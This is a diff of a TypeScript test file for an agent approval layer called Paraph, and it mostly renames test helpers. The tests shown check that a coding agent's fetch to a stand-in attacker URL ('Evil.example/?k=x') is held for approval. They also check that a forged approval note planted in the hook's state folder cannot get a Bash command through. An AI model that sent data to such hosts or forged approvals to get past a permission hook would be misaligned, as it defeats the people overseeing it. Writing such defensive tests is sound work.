@@ -6,13 +6,13 @@ import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { codingAgent } from "@paraph/server";
 import { afterAll, describe, expect, it } from "vitest";
-import { decisionOf, runHook, wordsOf } from "./run-hook.ts";
-import { Whole } from "./whole.ts";
+import { readHookDecision, readHookReason, runHook } from "./run-hook.ts";
+import { TestParaph } from "./whole.ts";
 
 const folder = await mkdtemp(join(tmpdir(), "paraph-hook-trust-"));
 const home = join(folder, "home");
 const project = join(folder, "project");
-const whole = await Whole.start({ adapters: { agent: codingAgent({}) } }, [
+const whole = await TestParaph.start({ adapters: { agent: codingAgent({}) } }, [
   { tenant: "acme", id: "owner", kind: "person" },
   { tenant: "acme", id: "ana", kind: "person" },
   { tenant: "acme", id: "bot", kind: "agent", owner: "owner" },
@@ -234,7 +234,7 @@ describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys"
 
   it("[TRUST 31] a fetch asks by default, with its address and host; one without a single address is unknown", async () => {
     const fetched = await use("WebFetch", { url: "HTTP://Evil.example/?k=x", prompt: "look" });
-    expect(wordsOf(fetched)).toContain("this waits in Paraph");
+    expect(readHookReason(fetched)).toContain("this waits in Paraph");
     const [asked] = await calls("agent.web_fetch");
     const { input } = (await whole.request("ana", "GET", `/v1/calls/${asked.call}`)).body;
     expect(input).toMatchObject({ url: "http://evil.example/?k=x", host: "evil.example" });
@@ -261,8 +261,8 @@ it("[TRUST 1] a note cannot pass off one call as another: what is taken is compa
   const note = `waiting-${digest(JSON.stringify([session, request]))}.json`;
   await put(join(home, ".local/state/.paraph/hook", note), { call: harmless.call });
   const answer = await use("Bash", { command });
-  expect(decisionOf(answer)).toBe("deny");
-  expect(wordsOf(answer)).not.toContain(harmless.call);
+  expect(readHookDecision(answer)).toBe("deny");
+  expect(readHookReason(answer)).not.toContain(harmless.call);
   const { body } = await whole.request("ana", "GET", `/v1/calls/${harmless.call}`);
   expect(body.state).toBe("offered");
 });
